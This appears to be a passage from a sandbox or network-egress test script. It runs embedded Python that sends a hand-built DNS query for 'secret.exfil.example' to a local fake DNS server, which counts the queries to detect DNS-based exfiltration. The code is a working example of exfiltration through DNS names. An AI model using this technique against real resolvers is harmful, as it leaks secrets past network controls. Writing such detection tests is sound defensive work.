# attack: a DNS lookup (the classic exfiltration channel: the secret goes out
# in the name) to a fake DNS server the test runs on 127.0.0.1:$PORT.
# detected: the test's DNS server counts the queries it receives.
"$PY" - <<'PYEOF'
import os, socket, struct
name = b"".join(bytes([len(p)]) + p for p in b"secret.exfil.example".split(b".")) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(query, ("127.0.0.1", int(os.environ["PORT"])))
print("answer:", s.recv(512))
PYEOF
